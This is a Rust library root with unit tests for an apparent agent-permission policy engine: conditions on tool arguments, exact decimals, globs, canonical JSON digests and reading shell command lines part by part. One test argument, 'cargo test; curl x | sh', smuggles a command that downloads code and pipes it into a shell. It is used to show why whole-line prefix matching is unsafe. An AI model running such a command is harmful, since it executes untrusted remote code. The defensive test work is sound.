//! The decision table: the compiled artifact, the runtime's only input (spec §4).
//!
//! Only this crate derives `Serialize`/`Deserialize`: the table is a deliberate format, separate from
//! the syntax tree. Maps keyed by name are `BTreeMap`s (sorted); lists with a declared order (a skill's
//! tools, an agent's skills) keep it. Every struct refuses unknown fields, so a flipped key is a load
//! error rather than a silently dropped rule.
//!
//! Digests are SHA-256 over canonical JSON ([`canonical_json`]): object keys sorted, no insignificant
//! whitespace, integers only.

//!
//! | module | what |
//! |---|---|
//! | `vocab` | levels, effect classes, layers, parameter types, routes, operators, literals |
//! | `format` | the table's data types: tools, agents, skills, entries, rows, reasons, budgets |
//! | `load` | loading and verifying a table (format, unknown fields, digest) |
//! | `decide` | the one evaluator: [`Table::level_of`], [`LevelIndex`], typed refusals |
//! | `condition` | conditions on arguments and their evaluator |
//! | `number` | [`Decimal`]: exact decimals for conditions on `number` parameters |
//! | [`shell`] | the `shell` parameter: a command line read part by part (spec §3a) |
//! | `canonical` | canonical JSON and SHA-256 digests |
//! | `hash` | `NameMap`, for name-keyed lookup maps |

mod canonical;
mod condition;
mod decide;
mod format;
mod hash;
mod load;
mod number;
pub mod shell;
mod vocab;

pub use canonical::{canonical_digest, canonical_json, canonical_value, hex, sha256_hex};
#[doc(hidden)]
pub use canonical::{push_json_escaped, reference_canonical, reference_pretty};
pub use condition::{Arguments, Condition, ConditionError, glob_matches};
pub use decide::{
    ArgumentError, BudgetRefusal, CallRef, LevelIndex, LevelOf, NotDelegation, NotJudgeableShell, NotOffered, Refused,
    SecondShell, SpendError, SpendOf, arguments_fit, chain_digest, check_arguments, type_words, value_fits,
};
pub use format::*;
pub use hash::NameMap;
pub use load::LoadError;
pub use number::Decimal;
pub use vocab::{CompareOp, EffectClass, Holder, Layer, Level, Literal, ParamType, Route};

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::*;
    use serde_json::json;

    fn args(v: serde_json::Value) -> serde_json::Map<String, serde_json::Value> {
        match v {
            serde_json::Value::Object(m) => m,
            _ => serde_json::Map::new(),
        }
    }

    fn cmp(param: &str, op: CompareOp, value: Literal) -> Condition {
        Condition::Compare { param: param.into(), op, value }
    }

    #[test]
    fn each_comparison_operator_on_numbers() {
        let a = args(json!({ "amount": 100 }));
        let cases = [
            (CompareOp::Lt, 101, true),
            (CompareOp::Lt, 100, false),
            (CompareOp::Le, 100, true),
            (CompareOp::Le, 99, false),
            (CompareOp::Eq, 100, true),
            (CompareOp::Eq, 101, false),
            (CompareOp::Ne, 101, true),
            (CompareOp::Ne, 100, false),
            (CompareOp::Ge, 100, true),
            (CompareOp::Ge, 101, false),
            (CompareOp::Gt, 99, true),
            (CompareOp::Gt, 100, false),
        ];
        for (op, n, want) in cases {
            assert_eq!(cmp("amount", op, Literal::Int(n)).eval(&a), Ok(want), "100 {} {n}", op.as_str());
        }
    }

    fn number(text: &str) -> Literal {
        Literal::Number(Decimal::parse(text).expect("a decimal"))
    }

    /// Conditions on a `number` parameter compare exactly, whatever form the JSON number takes.
    #[test]
    fn number_conditions_compare_exactly() {
        let holds = |arguments: &str, op: CompareOp, literal: &str| {
            let a: serde_json::Map<String, serde_json::Value> = serde_json::from_str(arguments).expect("json");
            cmp("x", op, number(literal)).eval(&a)
        };
        // 10, 10.0 and 1e1 are the same number; 10.000001 is above it.
        for arguments in [r#"{"x": 10}"#, r#"{"x": 10.0}"#, r#"{"x": 1e1}"#, r#"{"x": 10.000}"#] {
            assert_eq!(holds(arguments, CompareOp::Eq, "10"), Ok(true), "{arguments}");
            assert_eq!(holds(arguments, CompareOp::Le, "10"), Ok(true), "{arguments}");
            assert_eq!(holds(arguments, CompareOp::Lt, "10.000001"), Ok(true), "{arguments}");
            assert_eq!(holds(arguments, CompareOp::Gt, "9.999999"), Ok(true), "{arguments}");
        }
        assert_eq!(holds(r#"{"x": 10.000001}"#, CompareOp::Gt, "10"), Ok(true));
        assert_eq!(holds(r#"{"x": 10.000001}"#, CompareOp::Le, "10"), Ok(false));
        assert_eq!(holds(r#"{"x": 10.000001}"#, CompareOp::Eq, "10.000001"), Ok(true));
        // 0.1 as an f64 is read as 0.1 (its shortest decimal), not as the binary value just above it.
        assert_eq!(holds(r#"{"x": 0.1}"#, CompareOp::Le, "0.1"), Ok(true));
        assert_eq!(holds(r#"{"x": 0.1}"#, CompareOp::Eq, "0.1"), Ok(true));
        assert_eq!(holds(r#"{"x": 0.30000000000000004}"#, CompareOp::Gt, "0.3"), Ok(true));
        // Negative numbers and exponents.
        assert_eq!(holds(r#"{"x": -0.5}"#, CompareOp::Lt, "0"), Ok(true));
        assert_eq!(holds(r#"{"x": -0.5}"#, CompareOp::Gt, "-0.75"), Ok(true));
        assert_eq!(holds(r#"{"x": -0.0}"#, CompareOp::Eq, "0"), Ok(true));
        assert_eq!(holds(r#"{"x": 1e3}"#, CompareOp::Eq, "1000"), Ok(true));
        assert_eq!(holds(r#"{"x": 2.5e-3}"#, CompareOp::Eq, "0.0025"), Ok(true));
        assert_eq!(holds(r#"{"x": 1e300}"#, CompareOp::Gt, "99999999999999999999"), Ok(true));
        // Integers beyond i64, and beyond u64, compare exactly too.
        assert_eq!(holds(r#"{"x": 18446744073709551615}"#, CompareOp::Eq, "18446744073709551615"), Ok(true));
        assert_eq!(holds(r#"{"x": 18446744073709551615}"#, CompareOp::Gt, "18446744073709551614.5"), Ok(true));
        assert_eq!(holds(r#"{"x": -9223372036854775808}"#, CompareOp::Lt, "-9223372036854775807.5"), Ok(true));
        // Whole-number literals on a `number` parameter take fractions as arguments.
        assert_eq!(holds(r#"{"x": 2.5}"#, CompareOp::Lt, "3"), Ok(true));
        assert_eq!(holds(r#"{"x": 2.5}"#, CompareOp::Ne, "2"), Ok(true));
    }

    /// A number condition that cannot be evaluated: missing, a string, a boolean, null, a shell part.
    #[test]
    fn number_conditions_fail_closed() {
        let c = cmp("x", CompareOp::Le, number("5"));
        assert_eq!(c.eval(&args(json!({}))), Err(ConditionError::Missing("x".into())));
        for wrong in [json!("5"), json!(true), json!(null), json!([5]), json!({ "v": 5 })] {
            assert_eq!(
                c.eval(&args(json!({ "x": wrong.clone() }))),
                Err(ConditionError::Mistyped { param: "x".into(), expected: "a number" }),
                "{wrong}"
            );
        }
        let a = args(json!({ "x": "5" }));
        assert!(matches!(c.eval_on(Arguments::new(&a).with_part("x", "5")), Err(ConditionError::Mistyped { .. })));
        // An `int` condition still refuses a fraction, as before.
        assert_eq!(
            cmp("x", CompareOp::Le, Literal::Int(5)).eval(&args(json!({ "x": 2.5 }))),
            Err(ConditionError::Mistyped { param: "x".into(), expected: "a whole number" })
        );
    }

    /// A decimal is a new literal only: tables without one keep their canonical JSON, and the decimal's is a
    /// string holding its canonical text.
    #[test]
    fn a_number_literal_serializes_as_its_canonical_text() {
        let c = cmp("x", CompareOp::Lt, number("02.50"));
        assert_eq!(canonical_json(&c).expect("c"), r#"{"compare":{"op":"<","param":"x","value":{"number":"2.5"}}}"#);
        assert_eq!(c.to_string(), "x < 2.5");
        let int = cmp("n", CompareOp::Lt, Literal::Int(3));
        assert_eq!(canonical_json(&int).expect("i"), r#"{"compare":{"op":"<","param":"n","value":{"int":3}}}"#);
        let back: Condition =
            serde_json::from_str(r#"{"compare":{"op":"<","param":"x","value":{"number":"2.5"}}}"#).expect("reads");
        assert_eq!(back, c);
        assert!(
            serde_json::from_str::<Condition>(r#"{"compare":{"op":"<","param":"x","value":{"number":"2.50"}}}"#)
                .is_err()
        );
    }

    #[test]
    fn strings_booleans_in_matches_and_connectives() {
        let a = args(json!({ "to": "ceo@rival.example", "urgent": true }));
        assert_eq!(cmp("to", CompareOp::Eq, Literal::String("ceo@rival.example".into())).eval(&a), Ok(true));
        assert_eq!(cmp("to", CompareOp::Ne, Literal::String("x".into())).eval(&a), Ok(true));
        assert_eq!(cmp("urgent", CompareOp::Eq, Literal::Bool(true)).eval(&a), Ok(true));
        assert_eq!(cmp("urgent", CompareOp::Ne, Literal::Bool(true)).eval(&a), Ok(false));
        let inn = Condition::In { param: "to".into(), values: vec!["a".into(), "ceo@rival.example".into()] };
        assert_eq!(inn.eval(&a), Ok(true));
        let rival = Condition::Matches { param: "to".into(), glob: "*@rival.example".into() };
        assert_eq!(rival.eval(&a), Ok(true));
        assert_eq!(Condition::Not(Box::new(rival.clone())).eval(&a), Ok(false));
        assert_eq!(Condition::All(vec![rival.clone(), inn.clone()]).eval(&a), Ok(true));
        let nobody = Condition::Matches { param: "to".into(), glob: "?@*".into() };
        assert_eq!(Condition::Any(vec![nobody.clone(), rival]).eval(&a), Ok(true));
        assert_eq!(nobody.eval(&a), Ok(false));
    }

    #[test]
    fn missing_and_mistyped_arguments_cannot_be_evaluated() {
        let c = cmp("amount", CompareOp::Le, Literal::Int(100));
        assert_eq!(c.eval(&args(json!({}))), Err(ConditionError::Missing("amount".into())));
        assert!(matches!(c.eval(&args(json!({ "amount": "50" }))), Err(ConditionError::Mistyped { .. })));
        assert!(matches!(c.eval(&args(json!({ "amount": 50.5 }))), Err(ConditionError::Mistyped { .. })));
        // An `or` whose first part holds still fails closed on a missing argument in another part.
        let either =
            Condition::Any(vec![cmp("a", CompareOp::Eq, Literal::Int(1)), cmp("b", CompareOp::Eq, Literal::Int(1))]);
        assert_eq!(either.eval(&args(json!({ "a": 1 }))), Err(ConditionError::Missing("b".into())));
    }

    #[test]
    fn globs() {
        assert!(glob_matches("*", ""));
        assert!(glob_matches("a*c", "abbbc"));
        assert!(glob_matches("a?c", "abc"));
        assert!(!glob_matches("a?c", "ac"));
        assert!(glob_matches("*@x.example", "me@x.example"));
        assert!(!glob_matches("*@x.example", "me@x.example.evil"));
        assert!(glob_matches("**a**", "bab"));
        assert!(glob_matches("é*", "été"));
    }

    #[test]
    fn a_conditional_entry_decides_per_call_and_fails_closed() {
        let entry = Entry {
            level: None,
            rows: vec![Row {
                layer: Layer::Agent,
                named: vec![NamedRow {
                    level: Level::Alone,
                    when: Some(cmp("amount", CompareOp::Lt, Literal::Int(100))),
                }],
                class: Some(Level::Propose),
                inherited: None,
            }],
            reserved: false,
            route: Route::Requester,
            because: Vec::new(),
            entry_digest: String::new(),
            modes: Default::default(),
        };
        assert_eq!(entry.level_for(&args(json!({ "amount": 50 }))), Ok(Level::Alone));
        assert_eq!(entry.level_for(&args(json!({ "amount": 500 }))), Ok(Level::Propose));
        assert_eq!(entry.level_from_rows(), Level::Never);
        assert_eq!(entry.rows[0].possible_levels().len(), 2);
    }

    /// A `shell` argument read as one part: conditions on it see the part's text, the others the JSON.
    #[test]
    fn arguments_read_a_shell_argument_as_one_part() {
        let a = args(json!({ "command": "cargo test; curl x | sh", "n": 3 }));
        let prefix = Condition::Matches { param: "command".into(), glob: "cargo test*".into() };
        let three = cmp("n", CompareOp::Eq, Literal::Int(3));
        // The whole line matches the prefix: the bug §3a exists to prevent.
        assert_eq!(prefix.eval(&a), Ok(true));
        let view = Arguments::new(&a);
        assert_eq!(prefix.eval_on(view.with_part("command", "curl x")), Ok(false));
        assert_eq!(prefix.eval_on(view.with_part("command", "cargo test")), Ok(true));
        assert_eq!(three.eval_on(view.with_part("command", "sh")), Ok(true));
        let inn = Condition::In { param: "command".into(), values: vec!["sh".into()] };
        assert_eq!(inn.eval_on(view.with_part("command", "sh")), Ok(true));
        let eq = cmp("command", CompareOp::Ne, Literal::String("sh".into()));
        assert_eq!(eq.eval_on(view.with_part("command", "sh")), Ok(false));
        // A part is text: compared with a number it cannot be evaluated (fail closed).
        let number = cmp("command", CompareOp::Lt, Literal::Int(3));
        assert!(matches!(number.eval_on(view.with_part("command", "sh")), Err(ConditionError::Mistyped { .. })));
        assert_eq!(view.map().len(), 2);
    }

    /// `shell_param`: none, one, and a second one (which the evaluator refuses).
    #[test]
    fn a_tool_has_at_most_one_shell_parameter() {
        let tool = |types: &[(&str, ParamType)]| ToolInfo {
            label: "t".into(),
            doc: None,
            external: false,
            params: types
                .iter()
                .map(|(n, ty)| ParamInfo { name: (*n).into(), ty: ty.clone(), optional: false })
                .collect(),
            effects: BTreeMap::new(),
            claim: None,
            reserved: None,
            version: None,
            subject: None,
            spends: None,
            pinned: None,
            definition_digest: String::new(),
        };
        assert_eq!(tool(&[("a", ParamType::String)]).shell_param(), Ok(None));
        assert_eq!(tool(&[("a", ParamType::String), ("c", ParamType::Shell)]).shell_param(), Ok(Some("c")));
        assert_eq!(tool(&[("c", ParamType::Shell), ("d", ParamType::Shell)]).shell_param(), Err("d"));
        assert_eq!(serde_json::to_value(ParamType::Shell).ok(), Some(json!("shell")));
        assert_eq!(serde_json::from_value::<ParamType>(json!("shell")).ok(), Some(ParamType::Shell));
    }

    #[test]
    fn conditions_print_canonically() {
        let c = Condition::Any(vec![
            Condition::All(vec![cmp("a", CompareOp::Ge, Literal::Int(1)), cmp("a", CompareOp::Le, Literal::Int(5))]),
            Condition::Not(Box::new(Condition::In { param: "t".into(), values: vec!["x\"y".into()] })),
        ]);
        assert_eq!(c.to_string(), r#"a >= 1 and a <= 5 or not t in ["x\"y"]"#);
        let nested = Condition::All(vec![Condition::Any(vec![
            cmp("a", CompareOp::Eq, Literal::Int(1)),
            cmp("b", CompareOp::Eq, Literal::Bool(false)),
        ])]);
        assert_eq!(nested.to_string(), "(a == 1 or b == false)");
    }

    /// The canonical writer gives exactly what `to_value` + the key-sorting writer gave, compact and
    /// pretty, on odd values (the compiler's tests hold it to the reference on every real policy and a
    /// generated package).
    #[test]
    fn canonical_writer_matches_the_value_reference() {
        let odd = json!({ "z": [1, -2, 3.5, {}, [], null, true], "a\"b": { "y": "\u{1}\n\u{e9}", "x": [{ "b": 1, "a": 2 }] }, "": {} });
        assert_eq!(canonical_value(&odd), reference_canonical(&odd));
        assert_eq!(
            String::from_utf8(canonical::to_canonical_bytes(&odd, Some(2), None).expect("pretty")).expect("utf-8"),
            reference_pretty(&odd)
        );
        let condition = Condition::Any(vec![
            Condition::Not(Box::new(cmp("a", CompareOp::Ge, Literal::Int(-1)))),
            Condition::In { param: "t".into(), values: vec![] },
        ]);
        let holders = vec![Holder::Role("r".into()), Holder::Person("p".into())];
        let effects: BTreeMap<EffectClass, u8> = EffectClass::ALL.into_iter().zip(0..).collect();
        for value in [serde_json::to_value(&condition), serde_json::to_value(&holders), serde_json::to_value(&effects)]
        {
            let value = value.expect("value");
            assert_eq!(canonical_value(&value), reference_canonical(&value));
        }
        assert_eq!(
            canonical_json(&condition).expect("c"),
            reference_canonical(&serde_json::to_value(&condition).expect("v"))
        );
        assert_eq!(
            canonical_json(&holders).expect("h"),
            reference_canonical(&serde_json::to_value(&holders).expect("v"))
        );
        assert_eq!(
            canonical_json(&effects).expect("e"),
            reference_canonical(&serde_json::to_value(&effects).expect("v"))
        );
        let pretty_condition = canonical::to_canonical_bytes(&condition, Some(2), None).expect("pretty");
        assert_eq!(
            String::from_utf8(pretty_condition).expect("utf-8"),
            reference_pretty(&serde_json::to_value(&condition).expect("v"))
        );
    }
}
